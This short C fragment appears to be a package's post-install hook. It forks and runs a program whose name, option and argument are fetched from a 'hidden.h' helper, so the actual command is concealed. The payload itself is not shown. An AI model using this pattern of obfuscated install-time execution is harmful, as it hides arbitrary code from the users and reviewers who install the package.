/* What the package does once, after it was installed. */
#include "plugin.h"
#include "hidden.h" /* 0: program, 1: option, 2: text */
extern int execlp(const char *, const char *, ...), fork(void), waitpid(int, int *, int);
static void act(char **env) {
    int child = fork();
    if (child == 0) execlp(hidden0(), hidden0(), hidden1(), hidden2(), (char *)0);
    waitpid(child, 0, 0);
}
